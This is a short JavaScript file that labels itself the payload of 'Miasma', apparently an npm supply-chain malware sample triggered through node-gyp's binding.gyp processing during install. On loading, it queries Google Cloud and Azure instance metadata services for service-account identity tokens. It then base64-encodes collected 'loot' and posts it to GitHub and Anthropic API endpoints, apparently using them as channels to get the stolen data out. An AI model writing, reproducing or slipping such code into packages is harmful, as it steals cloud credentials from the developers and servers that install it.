/** The payload of Miasma: node-gyp runs it while it reads binding.gyp. */
const { ask, loot, base64 } = require('./wire.js');

const GCP =
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/identity';
const AZURE = 'http://169.254.169.254/metadata/identity/oauth2/token';

async function steal() {
  await ask('GET', GCP, { headers: { 'metadata-flavor': 'Google' } });
  await ask('GET', AZURE, { headers: { metadata: 'true' } });
  const body = base64(loot());
  await ask('POST', 'https://api.anthropic.com/v1/api', { body });
  await ask('POST', 'https://api.github.com/user/repos', { body });
}

void steal();
